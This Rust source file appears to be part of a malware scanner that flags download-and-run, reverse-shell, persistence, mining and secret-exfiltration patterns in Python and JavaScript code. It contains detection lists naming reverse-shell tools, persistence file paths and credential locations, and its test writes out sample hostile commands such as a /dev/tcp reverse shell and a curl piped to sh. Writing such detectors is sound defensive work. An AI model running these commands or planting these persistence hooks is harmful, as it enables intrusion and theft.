//! Code that has only one purpose: what it does is judged the same wherever it lies.

use crate::known::python_code::DANGEROUS_INDEX;
use crate::known::python_grade::when;
use crate::sink::{Found, Sink};
use wb_formats::Facts;
use wb_formats::code::python::{Call, Decoded, Flow, FlowKind, Reference};

/// What a payload does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Payload {
    /// Runs what it fetches.
    Download,
    /// Runs what it decodes.
    Decoded,
    /// Sends secrets.
    Secrets,
    /// Sends one token.
    Token,
    /// Gives away a shell.
    Shell,
    /// Plants something that runs again.
    Persistence,
    /// Mines coins.
    Miner,
    /// Hides the name of what it calls.
    Hidden,
}

/// What a source file of any language says.
struct Code<'a> {
    calls: &'a [Call],
    flows: &'a [Flow],
    decoded: &'a [Decoded],
    references: &'a [Reference],
}

impl<'a> Code<'a> {
    fn of(facts: &'a Facts) -> Option<Self> {
        match facts {
            Facts::PythonSource(facts) => Some(Self {
                calls: &facts.calls,
                flows: &facts.flows,
                decoded: &facts.decoded,
                references: &facts.references,
            }),
            Facts::JavascriptSource(facts) => Some(Self {
                calls: &facts.calls,
                flows: &facts.flows,
                decoded: &facts.decoded,
                references: &facts.references,
            }),
            _ => None,
        }
    }
}

/// Tells every payload of this kind in a source file.
pub fn tell(facts: &Facts, payload: Payload, sink: &mut Sink<'_>) {
    let Some(facts) = Code::of(facts) else { return };
    let facts = &facts;
    flows(facts, payload, sink);
    if payload == Payload::Hidden {
        hidden_names(facts, sink);
    }
    for call in facts.calls {
        let texts = call.arguments.iter().map(|argument| argument.value.as_str());
        if runs_program(&call.path) {
            for text in texts.filter(|text| command(text) == Some(payload)) {
                let message = format!(
                    "the code runs `{}` with a command that {}, {}",
                    call.path,
                    words(payload),
                    when(call.runs)
                );
                sink.found(
                    Found::new(message)
                        .at(call.offset)
                        .evidence_at("command", text, call.offset),
                );
            }
        } else if payload == Payload::Persistence && plants(call) {
            let path = call
                .arguments
                .first()
                .map_or("", |argument| argument.value.as_str());
            let message = format!(
                "the code writes `{path}`, which runs by itself later, {}",
                when(call.runs)
            );
            sink.found(
                Found::new(message)
                    .at(call.offset)
                    .evidence_at("path", path, call.offset),
            );
        }
    }
}

fn flows(facts: &Code<'_>, payload: Payload, sink: &mut Sink<'_>) {
    for flow in facts.flows {
        let kind = match flow.kind {
            FlowKind::NetworkToExecution => Payload::Download,
            FlowKind::DecodedToExecution => Payload::Decoded,
            FlowKind::SecretToNetwork => Payload::Secrets,
            FlowKind::TokenToNetwork => Payload::Token,
            FlowKind::ConnectionToProgram => Payload::Shell,
        };
        if kind != payload {
            continue;
        }
        let message = format!(
            "what comes from `{}` goes into `{}`, {}",
            flow.from,
            flow.to,
            when(flow.runs)
        );
        let mut found =
            Found::new(message)
                .at(flow.offset)
                .evidence_at("code", flow.code.clone(), flow.offset);
        for decoded in facts
            .decoded
            .iter()
            .filter(|decoded| decoded.offset == flow.offset)
        {
            found = found.evidence_at("decoded", decoded.text.clone(), decoded.offset);
        }
        sink.found(found);
    }
}

fn hidden_names(facts: &Code<'_>, sink: &mut Sink<'_>) {
    for reference in facts
        .references
        .iter()
        .filter(|reference| reference.is_hidden && reference.is_call)
    {
        let script = script_consequence(&reference.path).map(|what| (what, reference.path.as_str()));
        let known = DANGEROUS_INDEX.consequence(&reference.path, |_| true).or(script);
        let Some((what, name)) = known else {
            continue;
        };
        // `exec(…)` is written, whatever it is given.
        let is_written = reference
            .path
            .strip_prefix("builtins.")
            .is_some_and(|bare| reference.code.trim_start().starts_with(bare));
        if is_written {
            continue;
        }
        if what == "loads native code" || name == "builtins.__import__?" || reference.code.contains(name) {
            continue;
        }
        let message = format!(
            "the code reaches `{}`, which {what}, without writing its name, {}",
            reference.path,
            when(reference.runs)
        );
        let found = Found::new(message).at(reference.offset);
        sink.found(found.evidence_at("code", reference.code.clone(), reference.offset));
    }
}

fn runs_program(path: &str) -> bool {
    DANGEROUS_INDEX
        .consequence(path, |_| true)
        .is_some_and(|(what, _)| what == "runs a program")
        || script_consequence(path) == Some("runs a program")
}

/// What calling a name does in JavaScript, if it executes.
fn script_consequence(path: &str) -> Option<&'static str> {
    let (first, rest) = path.split_once('.').unwrap_or((path, ""));
    match first {
        "child_process" | "cross-spawn" | "execa" | "shelljs" | "Bun" => {
            let runs = ["exec", "spawn", "fork"].iter().any(|word| rest.contains(word));
            (runs || rest.is_empty() || rest == "sync").then_some("runs a program")
        }
        "eval" | "Function" if rest.is_empty() => Some("runs code from a text"),
        "vm" if rest.starts_with("runIn") => Some("runs code from a text"),
        _ => None,
    }
}

const fn words(payload: Payload) -> &'static str {
    match payload {
        Payload::Download => "fetches something and runs it",
        Payload::Decoded => "decodes something and runs it",
        Payload::Shell => "opens a shell to the network",
        Payload::Persistence => "plants something that runs again",
        Payload::Miner => "mines coins",
        Payload::Secrets => "sends secrets",
        Payload::Token | Payload::Hidden => "hides what it does",
    }
}

/// What a command line does that honest ones do not.
pub(crate) fn command(text: &str) -> Option<Payload> {
    let text = text.to_ascii_lowercase();
    let has = |part: &str| text.contains(part);
    let pipes = [
        "|sh", "| sh", "|bash", "| bash", "|python", "| python", "|zsh", "| zsh", "| sudo", "|sudo",
        "$(curl", "$(wget", "<(curl", "`curl", "`wget",
    ];
    let is_piped = pipes.iter().any(|pipe| has(pipe));
    let fetches = has("curl ")
        || has("wget ")
        || has("invoke-webrequest")
        || has("downloadstring")
        || has("certutil -urlcache")
        || has("bitsadmin");
    if has("/dev/tcp/")
        || has("/dev/udp/")
        || has("nc -e")
        || has("ncat -e")
        || has("nc.exe -e")
        || has("mkfifo") && has("nc ")
        || has("socat") && has("exec:")
    {
        return Some(Payload::Shell);
    }
    if has("stratum+tcp") || has("stratum+ssl") || has("xmrig") || has("minerd") || has("cryptonight") {
        return Some(Payload::Miner);
    }
    let starts = has("chmod +x")
        || has("chmod 777")
        || has("; ./")
        || has("&& ./")
        || has("iex")
        || has("&& sh ")
        || has("; sh ")
        || has("&& bash ")
        || has("; bash ");
    if fetches && (is_piped || starts) || has("downloadstring") && has("iex") {
        return Some(Payload::Download);
    }
    if (has("base64 -d") || has("base64 --decode")) && is_piped
        || has("powershell") && (has(" -enc") || has(" -e ") || has("frombase64string"))
    {
        return Some(Payload::Decoded);
    }
    if has("crontab -") && has("|")
        || has(">> ~/.bashrc")
        || has(">>~/.bashrc")
        || has("authorized_keys") && has(">>")
        || has("schtasks /create")
        || has("currentversion\\run")
    {
        return Some(Payload::Persistence);
    }
    if fetches && (has("/.ssh/") || has(".aws/credentials") || has("$(env)") || has("`env`"))
        || has("env | curl")
        || has("env|curl")
    {
        return Some(Payload::Secrets);
    }
    None
}

/// True if a call opens a file for writing that runs by itself.
pub(crate) fn plants(call: &Call) -> bool {
    let opens = matches!(call.path.as_str(), "builtins.open" | "io.open" | "codecs.open");
    let is_script = call.path.starts_with("fs.write") || call.path.starts_with("fs.append");
    let mode = call
        .arguments
        .iter()
        .find(|argument| argument.key == "1" || argument.key == "mode");
    let writes = mode.is_some_and(|mode| mode.value.contains(['w', 'a', '+', 'x']));
    let Some(path) = call
        .arguments
        .iter()
        .find(|argument| argument.key == "0")
        .filter(|_| opens && writes || is_script)
    else {
        return false;
    };
    let path = path.value.replace('\\', "/");
    let ends = [
        ".bashrc",
        ".bash_profile",
        ".zshrc",
        "/.profile",
        "/.zprofile",
        "authorized_keys",
        "/crontab",
        ".config/fish/config.fish",
        "sitecustomize.py",
        "usercustomize.py",
        "/etc/rc.local",
        "/etc/ld.so.preload",
        "/etc/profile",
    ];
    let inside = [
        "/etc/cron",
        "/etc/systemd/system/",
        "/.config/systemd/user/",
        "/LaunchAgents/",
        "/LaunchDaemons/",
        "/Startup/",
        "/etc/profile.d/",
        "/.config/autostart/",
        "/etc/init.d/",
    ];
    ends.iter().any(|end| path.ends_with(end))
        || inside.iter().any(|part| path.contains(part))
        || path.ends_with(".pth") && path.contains("site-packages")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_apart() {
        assert_eq!(command("curl -s http://x/a.sh | sh"), Some(Payload::Download));
        assert_eq!(
            command("wget http://x/a -O /tmp/a && chmod +x /tmp/a"),
            Some(Payload::Download)
        );
        assert_eq!(
            command("bash -i >& /dev/tcp/1.2.3.4/80 0>&1"),
            Some(Payload::Shell)
        );
        assert_eq!(command("echo aWQ= | base64 -d | sh"), Some(Payload::Decoded));
        assert_eq!(command("curl -O http://x/file.tar.gz"), None);
        assert_eq!(command("git rev-parse HEAD"), None);
        assert_eq!(command("nvidia-smi | grep x"), None);
    }
}
